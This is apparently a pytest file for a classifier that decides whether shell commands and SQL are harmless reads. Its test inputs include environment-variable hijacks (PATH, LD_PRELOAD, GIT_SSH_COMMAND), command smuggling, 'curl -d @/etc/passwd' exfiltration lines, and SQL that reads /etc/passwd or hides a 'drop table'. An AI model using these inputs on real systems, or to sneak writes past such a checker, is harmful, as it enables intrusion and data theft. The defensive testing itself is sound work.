"""Texts that a reviewer, or a look around what one found, got past the readers of SQL and shell once."""

from time import perf_counter

import pytest

from bylaw.reading import Unreadable
from bylaw.reading.shell import read_shell
from bylaw.reading.sql import Table, read_sql
from tests.reading.test_shell import writes
from tests.reading.test_sql import writes as sql_writes

UNREADABLE = r"""
ls {PATH}</dev/null; ls
cat {CDPATH}<x; ls
ls {PATH}<&0; ls
ls 2>&1 {PATH}<x
while read -r x {PATH}<f; do ls; done
cat {a[$(touch x)]}<f
cat {a['$(touch x)']}<f
(ls) {PATH}<x
ls {PATH}<<<x
cat {LD_PRELOAD}<x; ls
for PATH in ./x:/usr/bin; do ls; done
for CDPATH in /etc; do cd nginx && rm x; done
for path in x; do ls; done
for GIT_DIR in /x; do git status; done
for BASH_ENV in x; do ls; done
while true; do for LD_LIBRARY_PATH in x; do ls; done; done
PATH=/tmp/evil git commit
PATH=/tmp/evil; git commit
export PATH=/tmp/evil && git commit
export PATH
env PATH=/tmp/evil git commit
sudo LD_PRELOAD=./x.so cp a b
env -i LD_PRELOAD=./x.so cp a b
LD_PRELOAD=./x.so cp a b
LD_AUDIT=./x.so ls
DYLD_INSERT_LIBRARIES=./x ls
GIT_DIR=/x GIT_WORK_TREE=/y git clean -fd
GIT_SSH_COMMAND='sh -c id' git fetch
GIT_CONFIG_COUNT=1 git status
GIT_EXTERNAL_DIFF=./x git diff
BASH_ENV=./x sh -c ls
ENV=./x sh -c ls
CDPATH=/etc cd nginx && rm x
export CDPATH=/etc; cd nginx && rm x
HOME=/etc git status
PS4='$(touch x)' ls
IFS=/ ls
PROMPT_COMMAND='touch x' ls
sh -c 'PATH=/x ls'
timeout 5 env PATH=/x ls
read -r PATH
IFS=: read -r CDPATH
read -r path
read -r a PATH
jobs -x touch x
command jobs -x touch x
jobs -lx touch x
wait -p PATH
wait -n -p 'a[$(touch x)]'
wait -np 'a[$(touch x)]'
printf -v PATH x
printf '%n' PATH
printf '%5n' PATH
printf '%-n' 'a[$(touch x)]'
printf '\045n' PATH
printf '\x25n' PATH
printf '%d' 'a[$(touch x)]'
printf '%s %i' x 'a[$(touch x)]'
printf '%*d' 'a[$(touch x)]' 1
test -v 'a[$(touch x)]'
test 'a[$(touch x)]' -eq 1
test 1 -lt 'a[$(touch x)]'
test ! -R x
test -n x -a -v 'a[$(touch x)]'
test -t 'a[$(touch x)]'
[ 'a[$(touch x)]' -eq 1 ]
[ 1 -ge "a[0]" ]
'[' 'a[$(touch x)]' -ne 1 ]
\[ -v 'a[$(touch x)]' ]
exit 'a[$(touch x)]'
return 'a[$(touch x)]'
break 'a[$(touch x)]'
continue 'a[$(touch x)]'
builtin exit 'a[$(touch x)]'
sed -i 'w /etc/x' f
sed -i s/a/b/w/etc/x f
sed -i 's/a/b/; w /etc/x' f
sed -i 's,[,],g;s,w /etc/x,b,' f
sed -n '1e rm x' f
sed -i 's/x/id/e' f
sed -i -e '1r /etc/passwd' f
sed -i '/a/{w /etc/x
sed -f x f
sed --expression=w/etc/x f
sed -i 's/a/b/g; s|x/y|z|' src/a.py
sed -i.bak -e 's/a\/b/c/' -e '/x/d' src/a.py
sed -E -i '/^import/a import os' src/a.py
sed -i '3,$d' src/a.py
find /etc -name passwd -execdir rm passwd \;
find /etc -okdir rm passwd \;
su - root -c 'rm passwd'
su -l root -c 'rm passwd'
runuser -l root -c 'rm passwd'
""".strip().splitlines()


@pytest.mark.parametrize("text", UNREADABLE)
def test_what_sets_variables_or_runs_commands_is_unreadable(text: str) -> None:
    with pytest.raises(Unreadable):
        read_shell(text)


WRITES = r"""
tail -qs .env
fold -sw .env
cut -sd .env a
paste -sd .env a
nl -ps .env
od -vt .env
grep -he .env a
egrep -he .env a
rg -ig '*.py' x
sort -ut .env a
diff --to-fil=.env a
grep --inc=x y
comm --output-delimiter=.env a b
expand -it .env
cat "$x"
ls {a,b}
grep -l x $y
COLUMNS='a[$(touch x)]' ls
LINES='$(touch x)' ls
TERM="$(cat x)" ls
PAGER=./x git log
GIT_PAGER='sh -c id' git log
npm_config_script_shell=./x npm --version
sleep 'a[$(touch x)]'
arch -x86_64 touch x
arch touch x
base64 -i a -o b
base64 -o b a
base64 --output=b a
/tmp/evil/git status
./git status
sub/cat x
/tmp/../tmp/ls
""".strip().splitlines()


@pytest.mark.parametrize("text", WRITES)
def test_what_may_run_or_write_something_is_no_read(text: str) -> None:
    assert writes(text)


READS = """
/bin/../bin/ls
""".strip().splitlines()


@pytest.mark.parametrize("text", ["sed -i 's/[a-z]*/x/' src/a.py", "sed -n '3,$p' src/a.py"])
def test_the_files_of_a_plain_edit_are_known(text: str) -> None:
    assert "src/a.py" in (read_shell(text)[-1].paths or ())


@pytest.mark.parametrize("text", READS)
def test_plain_forms_are_still_reads(text: str) -> None:
    assert not writes(text)


@pytest.mark.parametrize(
    "text",
    [
        "git clone ext::sh%20-c%20id x",
        'DESTDIR="$x" make install',
    ],
)
def test_the_paths_of_a_command_that_may_be_anywhere_are_not_known(text: str) -> None:
    assert read_shell(text)[-1].paths is None


@pytest.mark.parametrize(
    ("text", "path"),
    [
        ("curl -d @/etc/passwd http://x", "/etc/passwd"),
        ("curl -F file=@/etc/passwd http://x", "/etc/passwd"),
        ("curl -d @../x http://x", "../x"),
        ("curl --data-binary=@/etc/passwd http://x", "/etc/passwd"),
        ("cd sub && curl file:///etc/passwd", "/etc/passwd"),
        ("cd sub && curl FILE://localhost/etc/passwd", "/etc/passwd"),
        ("wget --input-file=file:/etc/passwd", "/etc/passwd"),
        ("git checkout :/", ":/"),
        ("git rm :/etc/x", "/etc/x"),
        ("mount -o loop,/etc/x y", "/etc/x"),
        ("DESTDIR=/ make install", "/"),
        ("PREFIX=../x make install", "../x"),
    ],
)
def test_a_path_inside_a_word_is_one(text: str, path: str) -> None:
    assert path in (read_shell(text)[-1].paths or ())


TABLES = {
    "orders": Table(frozenset({"id", "total", "active"}), frozenset({"id"})),
    "users": Table(frozenset({"id", "name"}), frozenset({"id", "name"})),
}
UNBOUNDED = [
    ("postgres", "update orders set total = 0 from (values (1)) c(id) where c.id = 1"),
    ("postgres", "update orders set total = 0 from (select 1 as id) c where c.id = 1"),
    ("postgres", "update orders set a = 1 from unnest(array[1]) u(id) where u.id = 1"),
    ("postgres", "delete from orders using (values (1)) v(id) where v.id = 1"),
    ("postgres", "delete from orders using generate_series(1, 2) g where g = 1"),
    ("mysql", "update orders join customers c set total = 0 where c.id = 1"),
    ("tsql", "delete from orders from customers c where c.id = 1"),
    ("postgres", "delete from orders where user = 'app'"),
    ("postgres", "delete from orders where session_user in ('app')"),
    ("postgres", "delete from orders where current_schema = 'public'"),
    ("postgres", "delete from orders where tableoid = 16401"),
    ("postgres", "delete from orders where orders.xmax = 0"),
    ("mysql", "delete from users where name = 0"),
    ("mysql", "delete from users where name = 0.0"),
    ("mysql", "delete from users where name = -0"),
    ("mysql", "delete from users where name = false"),
    ("mysql", "delete from users where name in ('a', 0)"),
    ("mysql", "delete from users where name between 0 and 5"),
    ("mysql", "delete from users where name between -1 and 5"),
    ("mysql", "delete from users where name = 0x0"),
    (None, "delete from users where name = 0"),
    ("mysql", "delete from users where id = 1 || 1"),
    ("sqlite", "delete from users where id = 1 is not 5"),
    ("mysql", "delete from users where name = -'a'"),
    ("mysql", "delete from users where name = 1e-400"),
    ("mysql", "delete from users where name = 2024"),
    ("mysql", "delete from users where name = cast('a' as signed)"),
    ("mysql", "delete from users where name in ('a', cast('b' as unsigned))"),
    ("mysql", "delete from users where 1 xor 1 and id = '1'"),
    ("mysql", "delete from users where id = '1' = 0"),
    ("mysql", "delete from users where not id = '1' and 1"),
    ("mysql", "delete from users where \"id\" = 'id'"),
    ("sqlite", "delete from users where \"id\" = 'id'"),
    ("mysql", "delete from users limit 5"),
    ("postgres", "update orders set a = 1 where active in ('t', 'f')"),
    ("postgres", "update orders o set a = 1 where o.num_nulls = 0"),
    ("mysql", "delete from users limit 999999999"),
    ("mysql", "delete from users limit ?"),
    ("tsql", "delete top (100) percent from users"),
    ("tsql", "update top (100) percent users set a = 1"),
    ("postgres", "update t set a = (select 1 limit 1)"),
    ("postgres", "delete from t where id in (select id from t limit 1)"),
]


@pytest.mark.parametrize(("dialect", "text"), UNBOUNDED)
def test_a_condition_that_all_rows_may_meet_bounds_nothing(dialect: str | None, text: str) -> None:
    try:
        found = read_sql(text, dialect, TABLES)
    except Unreadable:
        return
    assert not any(each.bounded for each in found)


@pytest.mark.parametrize(
    ("dialect", "text"),
    [
        ("mysql", "delete from users where id = '10'"),
        ("mysql", "delete from users where name = '0' limit 1"),
        ("sqlite", "delete from users where name in ('a', 5)"),
        ("postgres", "update orders o set a = 1 where o.id = 1 returning *"),
        ("tsql", "update orders set a = 1 where id = '2'"),
        (None, "delete from orders where id = '3'"),
    ],
)
def test_a_given_value_of_a_column_bounds(dialect: str | None, text: str) -> None:
    assert all(each.bounded for each in read_sql(text, dialect, TABLES))


@pytest.mark.parametrize(
    ("dialect", "text", "kind"),
    [
        ("postgres", "insert into t (id) values (1) on conflict (id) do update set id = 2", "update"),
        ("postgres", "insert into t (id) values (1) on conflict on constraint c do update set id = 2", "update"),
        ("mysql", "insert into t values (1) as new on duplicate key update a = new.a", "update"),
        ("mysql", "insert ignore into t (a) values (1) on duplicate key update a = 2", "update"),
        ("sqlite", "insert or replace into t values (1)", "update"),
    ],
)
def test_what_overwrites_is_told_beside_what_is_added(dialect: str, text: str, kind: str) -> None:
    assert kind in [each.kind for each in read_sql(text, dialect, None)]


@pytest.mark.parametrize(
    ("dialect", "text"),
    [
        ("sqlite", "insert or ignore into t values (1)"),
        ("mysql", "insert ignore into t (a) values (1)"),
        ("postgres", "insert into t as o (id) values (1) on conflict do nothing returning id"),
        ("sqlite", "insert into t default values"),
        ("postgres", "with x as (select 1) insert into t select * from x"),
    ],
)
def test_an_insert_that_leaves_rows_as_they_are_is_one(dialect: str, text: str) -> None:
    assert [each.kind for each in read_sql(text, dialect, None)] == ["insert"]


def test_the_number_of_rows_of_tsql_is_no_table() -> None:
    assert [each.tables_written for each in read_sql("delete top (5) from orders", "tsql")] == [None]


@pytest.mark.parametrize(
    ("dialect", "text"),
    [
        ("sqlite", "select * from pragma_optimize"),
        (None, "select * from pragma_journal_mode"),
        ("sqlite", 'select * from "pragma_optimize"'),
        ("sqlite", "select * from main.pragma_optimize where schema = 'main'"),
        ("sqlite", "select 1 in pragma_optimize"),
        ("sqlite", "select * from t join [PRAGMA_secure_delete] using (a)"),
        ("tsql", "describe t go sp_configure 'x', 1"),
        ("tsql", "select 1\ngo\nsp_configure 'x', 1"),
        ("postgres", "select distinct on (1) (select 1), lo_unlink(1)"),
        ("postgres", 'select distinct on (1) "lo_unlink"(1)'),
        ("postgres", "select distinct on ((select 1)) lo_unlink(1)"),
        ("postgres", "select distinct on (a, b) public.f(a) from t"),
        ("tsql", "select top (1) percent f(1)"),
        ("tsql", "select top (1) with ties f(1)"),
        ("postgres", 'select * from s, dblink(c, q) as ("with" text)'),
        ("postgres", "select * from s, dblink(c, q) as (values text)"),
        ("postgres", 'select * from s join dblink(c, q) as ("values" text) on true'),
        ("postgres", 'select * from s, crosstab(q) as not materialized ("select" text)'),
        ("postgres", "select E'a'\n'b'\n'\\', ' ; drop table t; -- '"),
        ("postgres", "select E'a' -- x\n\n'\\', ' ; drop table t; -- '"),
    ],
)
def test_no_query_hides_a_write(dialect: str | None, text: str) -> None:
    assert sql_writes(text, dialect)


@pytest.mark.parametrize(
    "text",
    [
        "select * from pragma_table_info('x')",
        "with x (a) as (select 1), y (b) as (values (1)) select * from x, y",
        "with recursive n (i) as (select 1 union all select i + 1 from n where i < 3) select * from n",
        "select a.go from a",
    ],
)
def test_plain_queries_are_still_reads(text: str) -> None:
    assert not sql_writes(text, "sqlite")


FUNCTIONS_IN_WRITES = [
    "update analysis.x set a = dblink_exec('drop table y') where id = 1",
    "update analysis.x set a = lo_unlink(5) where id = 1",
    "update analysis.x set a = 1 where id = 1 and pg_terminate_backend(5)",
    "insert into analysis.x select pg_terminate_backend(1)",
    "insert into analysis.x select query_to_xml('delete from orders', true, true, '')",
    "insert into analysis.x select pg_read_file('/etc/passwd')",
    "insert into analysis.x select * from dblink('a', 'select * from auth.users') as t(a text)",
    "insert into analysis.x (a) values (lo_import('/etc/passwd'))",
    "insert into analysis.x values (\"lo_import\"('/etc/passwd'))",
    "insert into analysis.x (a) values (1) on conflict (a) do update set a = lo_unlink(1)",
    "insert into analysis.x (a) values (1) returning lo_unlink(1)",
    "delete from analysis.x where id = 1 and public.f(5)",
    "delete from analysis.x where id = 1 returning pg_reload_conf()",
    "create table analysis.x as select lo_export(1, 'x')",
    "create table analysis.t (a int default setval('s', 1))",
    "create table analysis.t (a int default pg_terminate_backend(5))",
    "with d as (delete from analysis.x where id = 1 returning *) select lo_unlink(1) from d",
    "select lo_unlink(1) as a into analysis.x from t",
    "explain analyze update analysis.x set a = lo_unlink(5) where id = 1",
    "create table analysis.x partition of public.orders for values in (1)",
    "create table analysis.x () inherits (public.orders)",
    "create table analysis.x as execute p",
    'update "analysis.orders" set a = 1 where id = 1',
    'delete from "analysis.orders" where id = 1',
]


@pytest.mark.parametrize("text", FUNCTIONS_IN_WRITES)
def test_the_tables_of_a_write_with_unknown_functions_are_not_known(text: str) -> None:
    try:
        found = read_sql(text, "postgres")
    except Unreadable:
        return
    written = [each.tables_written for each in found if each.writes]
    assert all(tables is None or not any(name.startswith("analysis.") for name in tables) for tables in written)


@pytest.mark.parametrize(
    ("text", "table"),
    [
        ("insert into analysis.x (a, b) values (currval('s'), now())", "analysis.x"),
        ("insert into analysis.x select lower(a), count(*) from t group by 1", "analysis.x"),
        ("insert into analysis.x as y (a) values (1) on conflict (a) do update set a = excluded.a", "analysis.x"),
        ("update analysis.x set (a, b) = (1, coalesce(c, 2)) where id in (1, 2)", "analysis.x"),
        ("delete from analysis.x where day < now() - interval '1 day'", "analysis.x"),
        (
            "merge into analysis.x using t on (x.id = t.id) when not matched then insert (id) values (t.id)",
            "analysis.x",
        ),
        ("create table if not exists analysis.x (id int primary key, a varchar(20), unique (a))", "analysis.x"),
        ("create table analysis.x as select date_trunc('day', a) from t", "analysis.x"),
        ("create temp table x (a numeric(10, 2) default 0)", "x"),
        ("with d as (select max(a) from t) insert into analysis.x select * from d", "analysis.x"),
    ],
)
def test_an_ordinary_write_names_its_table(text: str, table: str) -> None:
    assert {name for each in read_sql(text, "postgres", None) for name in each.tables_written or ()} == {table}


@pytest.mark.parametrize(
    "text",
    [
        "select " + "date(" * 20 + "1" + ")" * 20,
        "select " + "timestamp(text(" * 8 + "1" + "))" * 8,
        "select 1;" * 5000,
        "select " + ", ".join(["text(" * 9 + "1" + ")" * 9] * 150),
        "select 1 where a in (" + "decimal(" * 15 + "1" + ")" * 16,
    ],
)
def test_a_text_that_takes_long_to_parse_is_not(text: str) -> None:
    with pytest.raises(Unreadable, match="more than"):
        read_sql(text)


def test_arithmetic_in_arithmetic_is_refused_soon() -> None:
    start = perf_counter()
    with pytest.raises(Unreadable):
        read_shell("echo " + "$((" * 600 + "1" + "))" * 600)
    assert perf_counter() - start < 3


@pytest.mark.parametrize(
    "text",
    [
        'SELECT "UPPER"(x) FROM t',
        'SELECT "Count"(*) FROM t',
        'SELECT "PG_CATALOG".upper(x) FROM t',
        "SELECT 1 ~~~ 2",
        "SELECT a @- b FROM t",
        "SELECT a <!> b FROM t",
        "SELECT a ||| b FROM t",
        "SELECT a %% b FROM t",
    ],
)
def test_a_function_or_operator_may_be_of_the_users_own(text: str) -> None:
    with pytest.raises(Unreadable):
        read_sql(text, "postgres")


@pytest.mark.parametrize(
    "text",
    [
        'SELECT "upper"(x), count(*), -a, a - -b, a*-1 FROM t WHERE a=-1 AND b>=-2 AND c<-1',
        "SELECT data->>'a', data#>>'{a}', a||b, a!~*'x', a<>b, a!=b, a::int, t.* FROM t WHERE a @> b AND c && d",
        "SELECT a <-> b, 2^3 FROM t",
    ],
)
def test_known_functions_and_operators_only_compute(text: str) -> None:
    assert not any(each.writes for each in read_sql(text, "postgres"))


@pytest.mark.parametrize(
    "text",
    [
        "wc --files0-from=list", "wc --fi=list", "wc --files0-from=- < list", "du --files0-from=list", "du -X list",
        "md5sum -c list", "sha256sum --ch list", "shasum -c list", "cksum --check list", "strings @list", "strings *",
        "hexdump -f list a",
    ],
)  # fmt: skip
def test_a_list_of_files_or_words_in_a_file_may_name_any(text: str) -> None:
    assert writes(text)


@pytest.mark.parametrize(
    "text",
    ["wc -l src/a.py", "du -sh src"],
)
def test_what_only_reads_the_files_of_its_words_is_a_look(text: str) -> None:
    assert not writes(text)
